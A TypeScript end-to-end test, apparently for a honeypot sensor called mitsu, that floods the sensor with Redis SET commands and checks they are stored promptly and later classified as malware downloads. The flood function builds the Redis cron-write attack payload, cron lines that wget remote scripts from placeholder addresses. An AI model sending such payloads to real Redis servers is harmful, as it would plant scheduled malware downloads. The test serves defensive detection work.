// End to end: a flood of 64 KiB hostile payloads (Redis chains of 250 SETs, each costing tens
// of milliseconds to analyse) sent to the real `mitsu start`. Storage must keep pace with the
// connections, not with the analysis; the analysis put off arrives later, once idle.

import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { MitsuEvent } from '../src/events/event.js';
import { exportEvents, startSensor, type RunningSensor } from './helpers/sensor.js';

const HOST = '127.0.6.2';
const PORT = 20_000 + Math.floor(Math.random() * 2_000);
const CONNECTIONS = 200;
const CONCURRENT = 20;

/** Cron-write SETs to 64 KiB, each line naming another download address. */
function flood(n: number): Buffer {
  let text = '';
  for (let i = 0; text.length < 64 * 1024; i++) {
    const value = `*/1 * * * * wget http://198.51.100.${i % 250}/x${n}.sh`;
    text += `*3\r\n$3\r\nSET\r\n$5\r\nk${String(i).padStart(4, '0')}\r\n` +
      `$${value.length}\r\n${value}\r\n`;
  }
  return Buffer.from(text.slice(0, 64 * 1024), 'latin1');
}

function send(payload: Buffer): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = connect(PORT, HOST, () => socket.end(payload));
    socket.resume(); // read the replies so the server never waits on us
    socket.on('close', () => resolve());
    socket.on('error', reject);
  });
}

async function sendAll(): Promise<void> {
  let next = 0;
  const worker = async (): Promise<void> => {
    while (next < CONNECTIONS) await send(flood(next++));
  };
  await Promise.all(Array.from({ length: CONCURRENT }, worker));
}

describe('a flood of payloads that are slow to analyse', () => {
  let sensor: RunningSensor;
  beforeAll(async () => {
    sensor = await startSensor({ ports: `tcp:${PORT}`, listen: HOST });
  });
  afterAll(async () => {
    await sensor.stop();
  });

  it('is stored as fast as it arrives and analysed once the sensor is idle', async () => {
    await sendAll();
    const sent = Date.now();
    let stored: MitsuEvent[] = [];
    await vi.waitFor(() => {
      stored = exportEvents(sensor.db);
      expect(stored).toHaveLength(CONNECTIONS);
    }, { timeout: 8_000, interval: 250 });
    // Analysing them all in line would take 200 x tens of ms, well past this.
    expect(Date.now() - sent).toBeLessThan(8_000);
    expect(sensor.logs.some((l) => l.includes('analysis is falling behind'))).toBe(true);
    await vi.waitFor(() => {
      expect(sensor.logs.some((l) => l.includes('analysis caught up'))).toBe(true);
    }, { timeout: 60_000, interval: 500 });
    for (const event of exportEvents(sensor.db)) {
      expect(event.protocol).toBe('redis');
      expect(event.rules_version).not.toBeNull();
      expect(event.intent).toBe('malware-download');
      expect(event.iocs.urls.length).toBeGreaterThan(0);
    }
  }, 120_000);
});
